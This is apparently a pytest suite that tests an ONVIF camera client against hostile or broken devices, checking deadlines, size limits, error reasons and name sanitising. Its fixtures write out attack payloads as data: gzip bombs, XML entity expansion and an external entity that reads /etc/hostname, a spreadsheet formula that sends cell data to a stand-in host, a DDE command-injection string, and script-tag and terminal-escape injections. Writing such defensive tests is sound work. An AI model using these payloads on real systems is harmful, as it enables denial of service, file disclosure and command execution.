"""Hostile and broken devices by name: each costs no more than its deadline, and ends as facts with reasons."""

from __future__ import annotations

import gzip
import itertools
import json
import ssl
import subprocess
import time
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
from devices import Answer, HttpDevice, http
from onvif_answers import envelope, fault, mask
from onvif_device import Script
from onvif_reading import CAMERAS, fact, observe, reason, transport_to
from patience import LATE_S

from drivers.details import Accounts, VideoSources
from drivers.model import Identity, Masks, Overlays, Unavailable
from drivers.onvif.read import read

DEADLINE_S = 0.6


@cache
def bomb() -> bytes:
    """Fifty megabytes in fifty thousand bytes, made for this file only: it takes as long as a device's deadline."""
    return gzip.compress(b"<x>" + b"\0" * 50_000_000)


ENTITIES = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
GROWING = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "aaaaaaaaaa">' + ENTITIES + b"]><x>&e11;</x>"
OUTER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'
OUTER_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><x/>'
CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: text/xml\r\n\r\n"


@pytest.fixture(scope="module", autouse=True)
def bomb_is_there() -> None:
    """No device's time is for making it."""
    bomb()


DEVICES: dict[str, tuple[Callable[[HttpDevice], Answer], str]] = {
    "silent": (lambda served: None, "deadline"),
    "one byte per half second": (lambda served: served.drip(b"HTTP/1.1 200 OK\r\n", 0.5), "deadline"),
    "one byte of body per half second": (
        lambda served: itertools.chain([b"HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n"], served.drip(b"<", 0.5)),
        "deadline",
    ),
    "endless body": (
        lambda served: itertools.chain([CHUNKED], itertools.repeat(b"1000\r\n" + b"<a/>" * 1024 + b"\r\n")),
        "malformed",
    ),
    "endless headers": (
        lambda served: itertools.chain([b"HTTP/1.1 200 OK\r\n"], itertools.repeat(b"X: y\r\n" * 1000)),
        "malformed",
    ),
    "redirect to elsewhere": (lambda served: http(302, b"", ("Location", "http://192.0.2.1/")), "malformed"),
    "redirect that keeps the body": (lambda served: http(307, b"", ("Location", "//192.0.2.1/")), "malformed"),
    "HTTP 500 plain text": (
        lambda served: http(500, b"java.lang.NullPointerException\n\tat a.b(C.java:1)"),
        "malformed",
    ),
    "fault sent as 400": (lambda served: http(400, fault("ter:Odd", "odd")), "fault"),
    "fault sent as 200": (lambda served: http(200, fault("ter:Odd", "odd")), "fault"),
    "gzip bomb": (lambda served: http(200, bomb(), ("Content-Encoding", "gzip")), "malformed"),
    "gzip bomb under another name": (lambda served: http(200, bomb(), ("Content-Encoding", "x-gzip, br")), "malformed"),
    "gzip bomb as transfer encoding": (
        lambda served: iter(
            [CHUNKED.replace(b"chunked", b"gzip, chunked"), b"%x\r\n" % len(bomb()), bomb(), b"\r\n0\r\n\r\n"]
        ),
        "malformed",
    ),
    "gzip bomb without saying so": (lambda served: http(200, bomb()), "malformed"),
    "100 MB announced": (lambda served: http(200, b"", length=100_000_000), "malformed"),
    "100 MB sent": (
        lambda served: itertools.chain([b"HTTP/1.1 200 OK\r\n\r\n"], itertools.repeat(b" " * 1_000_000, 100)),
        "malformed",
    ),
    "a fault with more behind it than is read": (
        lambda served: itertools.chain(
            [b"HTTP/1.1 200 OK\r\n\r\n", fault("ter:Odd", "odd")], itertools.repeat(b"\n" * 65_536, 65)
        ),
        "malformed",
    ),
    "entity expansion": (lambda served: http(200, GROWING), "malformed"),
    "external entity": (lambda served: http(200, OUTER), "malformed"),
    "external document type": (lambda served: http(200, OUTER_DTD), "malformed"),
    "undeclared prefixes": (lambda served: http(200, b"<s:Envelope><s:Body><a:b/></s:Body></s:Envelope>"), "malformed"),
    "nothing": (lambda served: http(200), "malformed"),
    "empty envelope": (lambda served: http(200, envelope("")), "malformed"),
    "two bodies": (
        lambda served: http(200, envelope("").replace(b"</s:Envelope>", b"<s:Body/></s:Envelope>")),
        "malformed",
    ),
    "NUL bytes": (lambda served: http(200, b"\0" * 5000), "malformed"),
    "deep nesting": (lambda served: http(200, envelope("<a>" * 20000 + "</a>" * 20000)), "malformed"),
    "a million attributes": (
        lambda served: http(200, envelope("<a " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")),
        "malformed",
    ),
}


@pytest.mark.parametrize("name", DEVICES)
def test_a_hostile_device_is_read_to_reasons_within_its_deadline(name: str) -> None:
    answer, expected = DEVICES[name]
    with HttpDevice(lambda asked: answer(served)) as served, transport_to(served, DEADLINE_S) as transport:
        begun = time.monotonic()
        seen = read(CAMERAS[:1], transport)
        took_s = time.monotonic() - begun
        assert took_s < DEADLINE_S + LATE_S
        assert sum(len(one.reply.body) for one in transport.samples.kept) <= 8 * 64 * 1024
    told = {one.value.reason for one in seen if isinstance(one.value, Unavailable)}
    assert told <= {expected, "deadline"} and (expected in told or took_s > DEADLINE_S * 0.8)
    assert all(isinstance(one.value, Unavailable) for one in seen)


@pytest.fixture(scope="module")
def context(tmp_path_factory: pytest.TempPathFactory) -> tuple[ssl.SSLContext, Path]:
    path = tmp_path_factory.mktemp("tls") / "device.pem"
    command = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=127.0.0.1 -addext"
    made = subprocess.run(
        [*command.split(), "subjectAltName=IP:127.0.0.1", "-keyout", str(path), "-out", "-"],
        check=True,
        capture_output=True,
    )
    path.write_bytes(path.read_bytes() + made.stdout)
    made_context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    made_context.load_cert_chain(path)
    return made_context, path


def test_a_device_that_stalls_in_its_tls_handshake_costs_its_deadline() -> None:
    with HttpDevice(lambda asked: None) as served:
        served.wrap = lambda sock: (sock.recv(1), served.stopping.wait(60), sock)[2]  # type: ignore[method-assign]
        with transport_to(served, DEADLINE_S, tls=True) as transport:
            begun = time.monotonic()
            seen = read(CAMERAS[:1], transport)
            assert time.monotonic() - begun < DEADLINE_S + LATE_S
    assert {one.value.reason for one in seen if isinstance(one.value, Unavailable)} == {"deadline"}


# --- odd, but readable


def test_a_byte_order_mark_and_white_space_before_the_answer_are_passed_over() -> None:
    script = Script()
    plain = script._media2_GetMasks  # type: ignore[attr-defined]
    body = envelope(f"<tr2:GetMasksResponse>{plain(None)}</tr2:GetMasksResponse>")
    for before in (b"\xef\xbb\xbf", b"\r\n\r\n", b"\xef\xbb\xbf\n"):
        script.answers["media2 GetMasks"] = lambda asked, before=before: http(200, before + body)  # type: ignore[misc]
        assert isinstance(fact(observe(script), "camera:one", "masks"), Masks)


@pytest.mark.parametrize("declared", ["UTF-8", "GB18030", "gbk", "GB2312", ""])
def test_chinese_text_is_read_whatever_it_is_declared_as(declared: str) -> None:
    name = "学校大门·一号镜头"
    inner = "".join(
        f"<tds:{tag}>{name}</tds:{tag}>"
        for tag in ("Manufacturer", "Model", "FirmwareVersion", "SerialNumber", "HardwareId")
    )
    text = envelope(f"<tds:GetDeviceInformationResponse>{inner}</tds:GetDeviceInformationResponse>").decode()
    text = text.replace('encoding="UTF-8"', f'encoding="{declared}"' if declared else "")
    script = Script()
    script.answers["device GetDeviceInformation"] = lambda asked: http(200, text.encode("gb18030"))
    told = fact(observe(script), "device:box", Identity)
    assert isinstance(told, Identity) and told.model == name


def test_masks_beside_chinese_names_in_the_wrong_encoding_are_all_read() -> None:
    script = Script(masks=mask("遮挡-1", "vsc-1") + mask("遮挡-2", "vsc-1"))
    body = envelope(f"<tr2:GetMasksResponse>{script.masks}</tr2:GetMasksResponse>").decode().encode("gb18030")
    script.answers["media2 GetMasks"] = lambda asked: http(200, body)
    told = fact(observe(script), "camera:one", "masks")
    assert isinstance(told, Masks) and [one.token for one in told.masks] == ["遮挡-1", "遮挡-2"]


def test_text_in_no_known_encoding_is_malformed() -> None:
    script = Script()
    body = envelope("<tr2:GetMasksResponse/>").replace(b"<tr2", b"<!--\xff\xff\xff--><tr2")
    script.answers["media2 GetMasks"] = lambda asked: http(200, body)
    assert reason(observe(script), "camera:one", "masks") == "malformed"


def test_wrong_namespaces_are_read_by_the_names_in_them_or_not_at_all() -> None:
    script = Script(masks=mask("x", "vsc-1").replace("tr2:", "trt:"))
    told = fact(observe(script), "camera:one", "masks")
    assert isinstance(told, Masks) and len(told.masks) == 1
    script = Script()
    body = envelope('<odd:GetMasksResponse xmlns:odd="urn:odd"/>')
    script.answers["media2 GetMasks"] = lambda asked: http(200, body)
    assert not isinstance(fact(observe(script), "camera:one", "masks"), Masks)


@pytest.mark.parametrize(
    "double",
    [
        "<tr2:GetMasksResponse/><tr2:GetMasksResponse>{0}</tr2:GetMasksResponse>",
        "<tr2:GetMasksResponse/></s:Body><s:Body><tr2:GetMasksResponse>{0}</tr2:GetMasksResponse>",
        '<tr2:GetMasksResponse a="1" a="2">{0}</tr2:GetMasksResponse>',
    ],
)
def test_duplicated_elements_are_not_read_by_choosing_one(double: str) -> None:
    script = Script()
    body = envelope(double.format(mask("x", "vsc-1")))
    script.answers["media2 GetMasks"] = lambda asked: http(200, body)
    assert reason(observe(script), "camera:one", "masks") == "malformed"


def test_undecodable_answers_are_asked_for_once_each(monkeypatch: pytest.MonkeyPatch) -> None:
    """onvif-zeep calls again after a TypeError, with other arguments. Every request is counted at the device."""

    def broken(*arguments: object, **named: object) -> None:
        raise TypeError("as a decoder may")

    monkeypatch.setattr("zeep.wsdl.bindings.soap.Soap12Binding.process_reply", broken)
    for login in ("none", "wsse", "digest"):
        script = Script(login=login)
        with script.device() as served, transport_to(served) as transport:
            seen = read(CAMERAS[:1], transport)
            sent = [asked for asked in served.asked if asked.authorization or login != "digest"]
        assert {one.value.reason for one in seen if isinstance(one.value, Unavailable)} == {"malformed"}
        counts = {name: script.operations.count(name) for name in set(script.operations)}
        # Anonymously and with the login at most; and nothing at all from where the services are not known.
        assert max(counts.values()) <= (1 if login == "none" else 2), counts
        assert len(sent) <= 9


# --- names


HOSTILE_NAMES = [
    "\x1b[2J\x1b]0;owned\x07",
    "[red]alarm[/red][link=file:///etc/passwd]x[/link]",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "gate\u202egpj.exe",
    "a\u2028b\u2029c\u0085d",
    "x" * 5000,
    "\u200f\u2066x\u2069",
    "</script><script>alert(1)</script>",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_from_a_device_is_one_bounded_line_of_plain_text(name: str) -> None:
    # XML cannot carry an escape character; as a reference it makes the answer ill-formed.
    written = "".join(f"&#{ord(c)};" if ord(c) > 31 else "" for c in name)
    script = Script()
    user = f"<tds:User><tt:Username>{written}</tt:Username><tt:UserLevel>{written}</tt:UserLevel></tds:User>"
    body = envelope(f"<tds:GetUsersResponse>{user}</tds:GetUsersResponse>")
    script.answers["device GetUsers"] = lambda asked: http(200, body)
    osd = script._media2_GetOSDs(None).replace("North &amp; gate", written)  # type: ignore[attr-defined,arg-type]
    script.answers["media2 GetOSDs"] = lambda asked: http(
        200, envelope(f"<tr2:GetOSDsResponse>{osd}</tr2:GetOSDsResponse>")
    )
    seen = observe(script)
    accounts, overlays = fact(seen, "device:box", "accounts"), fact(seen, "camera:one", "overlays")
    assert isinstance(accounts, Accounts) and isinstance(overlays, Overlays)
    for text in (accounts.accounts[0].name, accounts.accounts[0].level, overlays.texts[0]):
        assert 0 < len(text) <= 256 and len(text.splitlines()) == 1
        assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E for c in text)
        assert json.loads(json.dumps(text)) == text


def test_an_escape_character_makes_an_answer_malformed_and_stays_out_of_its_reason() -> None:
    script = Script()
    script.answers["device GetUsers"] = lambda asked: http(500, fault("ter:Odd", "a\x85b &#27;[2J"))
    told = fact(observe(script), "device:box", "accounts")
    assert isinstance(told, Unavailable) and told.detail.isprintable()
    script.answers["device GetUsers"] = lambda asked: http(500, fault("ter:Odd", "a&#133;b&#8238;c"))
    told = fact(observe(script), "device:box", "accounts")
    assert isinstance(told, Unavailable) and "a b\ufffdc" in told.detail


def test_a_device_with_thousands_of_profiles_is_read_within_bounds() -> None:
    script = Script(channels=300)
    seen = observe(script, cameras=CAMERAS[:1])
    told = fact(seen, "device:box", "video-sources")
    assert isinstance(told, VideoSources) and len(told.sources) == 300


_FULL = fault("env:Receiver", "the maximum number of connections is reached")


@pytest.mark.parametrize(
    ("busy", "instead"), [("device GetServices", "GetCapabilities"), ("media2 GetProfiles", "media GetProfiles")]
)
def test_a_device_whose_connections_are_full_is_not_asked_the_same_in_another_way(busy: str, instead: str) -> None:
    """Each further request takes a place of the few that are left, of whoever watches the pictures."""
    script = Script()
    script.answers[busy] = lambda asked: http(500, _FULL)
    seen = observe(script)
    assert reason(seen, "device:box", "services" if "Services" in busy else "video-sources") == "busy"
    assert not [one for one in script.operations if one.endswith(instead)], script.operations
